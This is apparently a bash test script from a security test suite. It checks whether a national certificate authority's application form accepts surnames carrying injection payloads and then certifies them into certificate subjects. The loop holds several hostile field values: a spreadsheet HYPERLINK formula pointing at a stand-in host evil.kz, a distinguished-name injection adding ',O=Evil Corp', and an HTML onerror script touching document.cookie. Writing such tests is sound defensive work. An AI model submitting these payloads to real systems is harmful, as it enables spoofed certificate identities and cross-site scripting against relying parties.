#!/usr/bin/env bash
# A holder's surname/name is "written in letters" (no digit, at least one letter), but any punctuation passes:
# a spreadsheet formula, HTML markup, RFC 4514 syntax (",O=…", "+serialNumber=…"), U+FFFD/U+FFFC. The national CA
# certifies them as SN/CN; relying parties' journals, web pages and spreadsheets show them.
# Exit 0 = vulnerable (a certificate issued whose CN carries such a name).
NAME=name-markup; . "$(dirname "$0")/common.sh"
setup >/dev/null || { echo setup failed; cat $W/err; exit 1; }
n=0; vuln=0
for sn in '=HYPERLINK("http://evil.kz/?x"&A;"Click")' 'Kasymova,O=Evil Corp' '<img src=x onerror=alert(document.cookie)>' $'Kasymova\ufffd'; do
 n=$((n+1)); iin=$(newiin $((n+300)))
 python3 - "$W/a$n.json" "$iin" "$sn" <<'PY'
import json,sys,datetime
d={"iin":sys.argv[2],"surname":sys.argv[3],"name":"Aliya","region":"Almaty","city":"Konaev","email":"a@example.kz","phone":"+77011234567","usage":["sign"],"validity":"1y","key_media":"file","application_date":datetime.date.today().isoformat()}
json.dump(d,open(sys.argv[1],"w"),ensure_ascii=False)
PY
 as op application submit --ca NCA --form NCA-ISSUE-IND --data $W/a$n.json --attachments identity_document_copy --consent --json; rc=$?
 echo "== surname $(printf %q "$sn"): submit rc=$rc $(head -c 200 $W/err)"
 [ $rc = 0 ] || continue
 APP=$(jget id); as off2 application approve $APP; mkcsr $W/c$n.csr; issue $APP $W/c$n.csr $W/c$n.pem || continue
 echo "   certified: $(openssl x509 -in $W/c$n.pem -noout -subject -nameopt utf8,sep_comma_plus_space,esc_ctrl 2>&1)"
 vuln=1
done
[ $vuln = 1 ] && exit 0 || exit 1
